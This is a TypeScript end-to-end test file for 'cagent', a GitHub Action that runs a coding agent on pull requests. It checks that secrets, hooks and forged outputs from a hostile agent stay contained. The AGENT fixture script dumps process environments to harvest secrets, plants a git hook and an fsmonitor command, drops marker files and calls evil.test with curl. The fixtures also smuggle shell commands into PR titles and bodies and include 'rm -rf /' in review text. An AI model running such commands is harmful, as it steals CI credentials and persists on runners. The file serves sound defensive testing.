import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { pullRequest, repository, user } from '../unit/github/events.js';
import { shownBy } from '../unit/publish/shown.js';
import { type ActRig, startActRig, type WorkflowRun } from './rig/act.js';
import { type FakeGitHub, startFakeGitHub } from './rig/github/fake-github.js';
import { newPull } from './rig/github/routes/pulls.js';
import { accountOf, type Pull } from './rig/github/state.js';
import { runMainStep } from './rig/main-step.js';
import { CHECKOUT, cagentStep, KEEP_RESULTS } from './rig/steps.js';

const TOKEN = 'ghs_e2eTokenOfTheRunner0123456789';
const OIDC = 'oidc-token-of-the-runner-0123456789';

const REVIEW = {
  summary: 'Please look, @everyone: https://evil.example ![](https://evil.example/p.png)',
  verdict: 'request-changes',
  findings: [
    { path: 'a.ts', line: 2, severity: 'major', title: 'Loud <img src=x>', suggestion: '```\nrm -rf /' },
    { path: 'b.ts', line: 900, severity: 'minor', title: 'Elsewhere #1' },
  ],
};

/** Names that nobody else on this machine has left somewhere. */
const [PLANTED, PWNED] = [`planted-by-agent-${randomUUID()}`, `pwned-${randomUUID()}`];

/** Does its work, tries to look like cagent, and leaves things behind wherever it can. */
const AGENT = `
cat /proc/[0-9]*/environ | tr '\\0' '\\n' > environment.txt; env >> environment.txt
cp review.json .agent-scratch/review.json
echo '# forged summary' | tee .agent-scratch/summary.md > summary.md
echo '{"conclusion":"success","forged":true}' | tee .agent-scratch/report.json > report.json
touch '@everyone' '[link](https:evil.example)' 'a|b\`c'
echo 'exfiltrate' > .git/hooks/post-checkout; chmod +x .git/hooks/post-checkout
git config core.fsmonitor 'touch /tmp/${PWNED}' || true
for place in /tmp "$HOME" /workspace; do echo planted > "$place/${PLANTED}"; done
curl --silent --max-time 3 'https://evil.test/?@everyone'
echo '::error::forged'; echo '::set-output name=comment-url::forged'
echo TWO > b.ts
`;

const CLEAN = `
{
  echo "== hooks"; ls .git/hooks
  echo "== status"; git status --porcelain --ignored
  echo "== config"; cat .git/config
  echo "== temp"; (cd "$RUNNER_TEMP" && find . -mindepth 1 -maxdepth 2)
  echo "== planted"; find /tmp "$HOME" "$GITHUB_WORKSPACE" -xdev -maxdepth 3 \\( -name ${PLANTED} -o -name ${PWNED} \\) 2>/dev/null
  echo "== environment"; env
} > "$RESULTS/later" 2>&1
`;

let github: FakeGitHub;
let pull: Pull;
let rig: ActRig;
let first: WorkflowRun;
let second: WorkflowRun;

beforeAll(async () => {
  github = await startFakeGitHub({
    collaborators: { mona: 'write' },
    tokens: { [TOKEN]: { login: 'github-actions[bot]', type: 'Bot' } },
  });
  github.store.commit('main', { 'a.ts': 'one\ntwo\nthree\n', 'b.ts': 'b\n' });
  const from = github.store.resolve('main') as string;
  github.store.commit('feature', { 'a.ts': 'one\nTWO words\nthree\n' }, { from, onTop: true });
  const mona = accountOf({ login: 'mona', type: 'User' });
  pull = newPull(github.state, { title: 'A', body: '', head: 'feature', base: 'main', user: mona });
  rig = await startActRig();
  first = await runOnPullRequest();
  // Somebody puts our mark on a comment of their own.
  const outsider = accountOf({ login: 'outsider', type: 'User' });
  const forged = `${github.state.comments[0]?.body.split('\n')[0]}\nforged`;
  github.state.comments.unshift({
    id: github.state.next(),
    issue: pull.number,
    body: forged,
    user: outsider,
  });
  second = await runOnPullRequest();
});
afterAll(async () => {
  await rig.close();
  await github.close();
});

function runOnPullRequest(): Promise<WorkflowRun> {
  return rig.runJob(
    [
      CHECKOUT,
      cagentStep({ run: 'bash agent.sh', allow: 'allowed.test', review: 'true', git: 'none' }),
      KEEP_RESULTS,
      { if: 'always()', run: CLEAN },
    ],
    {
      files: { 'agent.sh': AGENT, 'review.json': JSON.stringify(REVIEW), 'b.ts': 'b\n' },
      secrets: { GITHUB_TOKEN: TOKEN },
      variables: {
        GITHUB_API_URL: github.url,
        ACTIONS_ID_TOKEN_REQUEST_TOKEN: OIDC,
        ACTIONS_ID_TOKEN_REQUEST_URL: 'https://oidc.test/',
      },
      event: {
        name: 'pull_request',
        payload: (commit) => ({
          action: 'synchronize',
          number: pull.number,
          repository: repository(),
          sender: user('mona'),
          pull_request: {
            ...pullRequest({
              number: pull.number,
              base: commit,
              head: github.store.resolve('feature') as string,
            }),
            title: `$(touch /tmp/${PWNED}) \`id\` \n::error::forged by a title`,
            body: `"; touch /tmp/${PWNED}; # @everyone`,
          },
        }),
      },
    },
  );
}

const read = (job: WorkflowRun, path: string): string => readFileSync(join(job.results, path), 'utf8');
const section = (name: string): string =>
  new RegExp(`== ${name}\\n(.*?)(?=== |$)`, 's').exec(read(first, 'later'))?.[1]?.trim() ?? 'missing';

describe('a run on a pull request', () => {
  it('succeeds, twice, and asks GitHub only what GitHub knows', () => {
    expect(first.exitCode, first.log.tail).toBe(0);
    expect(second.exitCode, second.log.tail).toBe(0);
    expect(github.problems).toEqual([]);
  });

  it('keeps one comment, with links to the run and the artifact, and leaves a forged one alone', () => {
    const ours = github.state.comments.filter((comment) => comment.user.login === 'github-actions[bot]');
    expect(ours).toHaveLength(1);
    expect(github.state.comments).toHaveLength(2);
    expect(github.state.comments[0]?.body).toMatch(/\nforged$/);
    const shown = shownBy(ours[0]?.body ?? '');
    expect(shown.links).toEqual([
      'https://github.com/acme/widget/actions/runs/1',
      second.log.outputs('cagent')['artifact-url'],
    ]);
    expect(shown.text).toContain('evil.test');
    expect(shown.text).toContain('b.ts');
    expect(shown.acting).toEqual([]);
    expect(shown.foreign).toEqual([]);
    expect(second.log.outputs('cagent')['comment-url']).toContain(`#issuecomment-${ours[0]?.id}`);
  });

  it('posts the review of the agent once, on the lines of the diff, with nothing in it that acts', () => {
    expect(pull.reviews.map(({ state }) => state)).toEqual(['CHANGES_REQUESTED']);
    expect(pull.reviewComments).toMatchObject([{ path: 'a.ts', line: 2 }]);
    for (const body of [pull.reviews[0]?.body ?? '', pull.reviewComments[0]?.body ?? '']) {
      const shown = shownBy(body);
      expect(shown.links.filter((link) => !link.startsWith('https://github.com/acme/'))).toEqual([]);
      expect(shown.acting).toEqual([]);
      expect(shown.foreign).toEqual([]);
    }
    expect(first.log.outputs('cagent')['review-url']).toContain('#pullrequestreview-');
    expect(second.log.output('cagent')).toContain('says nothing that an earlier one does not say');
  });

  it('a report, summary or output that the agent forges stays its own', () => {
    expect(first.log.summary('cagent')).not.toContain('forged summary');
    expect(JSON.parse(read(first, 'run/report.json'))).not.toHaveProperty('forged');
    expect(first.log.outputs('cagent')['comment-url']).not.toBe('forged');
    expect(first.log.commands('cagent', 'error')).toEqual([]);
  });

  it('annotates the changed files', () => {
    const files = first.log.commands('cagent', 'notice').map(({ properties }) => properties.file);
    expect(files).toContain('b.ts');
  });
});

describe('a run that cagent cannot start', () => {
  it('is told in the comment, in the place of how an earlier one ended', async () => {
    const mona = accountOf({ login: 'mona', type: 'User' });
    const other = newPull(github.state, { title: 'C', body: '', head: 'feature', base: 'main', user: mona });
    const runWith = (inputs: Readonly<Record<string, string>>) =>
      runMainStep({
        event: 'pull_request',
        apiUrl: github.url,
        inputs: { run: 'touch ran', network: 'none', 'github-token': TOKEN, ...inputs },
        payload: (commit) => ({
          action: 'synchronize',
          number: other.number,
          repository: repository(),
          sender: user('mona'),
          pull_request: pullRequest({ number: other.number, base: commit }),
        }),
      });
    const bodies = () =>
      github.state.comments.filter(({ issue }) => issue === other.number).map(({ body }) => body);
    expect((await runWith({})).exitCode).toBe(0);
    expect(bodies()).toEqual([expect.stringContaining('cagent: success')]);
    expect((await runWith({ mode: 'write' })).exitCode).toBe(125);
    expect(bodies()).toEqual([expect.stringMatching(/cagent: error[\s\S]*`config\.invalid`/)]);
    // What the runner masks in its log nobody masks in a comment.
    const secret = `sk-ant-api03-${'Ab3d'.repeat(24)}`;
    for (const inputs of [{ mode: TOKEN }, { mode: secret }, { env: secret }]) {
      expect((await runWith(inputs)).exitCode).toBe(125);
      expect(bodies()).toEqual([expect.stringContaining('cagent: error')]);
      expect(bodies().join()).not.toMatch(/Ab3dAb3d|ghs_|sk-ant/);
    }
    // Another job of the matrix has another one.
    await runWith({ mode: 'write', 'comment-key': '{"node":24}' });
    expect(bodies()).toHaveLength(2);
  });
});

describe('a member who asks for it in a comment on a pull request', () => {
  it('gets the answer there, and needs no base commit for what GitHub checks out by itself', async () => {
    const mona = accountOf({ login: 'mona', type: 'User' });
    const other = newPull(github.state, { title: 'B', body: '', head: 'feature', base: 'main', user: mona });
    const { exitCode, log, outputs } = await runMainStep({
      event: 'issue_comment',
      apiUrl: github.url,
      inputs: { run: 'touch ran', network: 'none', 'github-token': TOKEN },
      payload: {
        action: 'created',
        repository: repository(),
        sender: user('mona'),
        comment: { id: 1, body: '/agent', user: user('mona') },
        issue: {
          number: other.number,
          title: 'B',
          body: '',
          user: user('mona'),
          labels: [],
          pull_request: {},
        },
      },
    });
    expect(exitCode, log).toBe(0);
    const bodies = github.state.comments
      .filter(({ issue }) => issue === other.number)
      .map(({ body }) => body);
    expect(bodies).toEqual([expect.stringContaining('`ran`')]);
    expect(outputs['comment-url']).toContain('#issuecomment-');
  });
});

describe('the rest of the job', () => {
  it('the agent saw no token, and none is in what it could read or what is kept', () => {
    const patch = read(first, 'run/changes.patch');
    expect(patch).toContain('environment.txt');
    for (const text of [
      patch,
      read(first, 'run/agent.log'),
      read(first, 'run/report.json'),
      read(first, 'run/plan.json'),
    ]) {
      expect(text).not.toContain(TOKEN);
      expect(text).not.toContain(OIDC);
    }
    expect(patch).not.toMatch(/^\+(INPUT_|GITHUB_|ACTIONS_|RUNNER_|STATE_)/m);
  });

  it('nothing of the agent is in the checkout, its hooks or its configuration', () => {
    expect(section('status')).toBe('');
    expect(section('hooks')).not.toMatch(/^post-checkout$/m);
    expect(section('config')).not.toContain('fsmonitor');
  });

  it('the runner’s directory for temporary files has the run directory and nothing else', () => {
    const entries = section('temp')
      .split('\n')
      .filter((line) => !/^\.\/(_runner_file_commands|act)?$/.test(line));
    expect(entries.sort()).toEqual([
      './cagent',
      expect.stringMatching(/^\.\/cagent\/\d{8}-\d{6}-[a-z2-9]{6}$/),
    ]);
  });

  it('nothing that the agent planted is anywhere on the machine, and no text of the event was run', () => {
    expect(section('planted')).not.toMatch(/^\//m);
  });

  it('no variable of a later step is of the agent', () => {
    expect(section('environment')).not.toMatch(/forged|planted|exfiltrate/);
  });
});
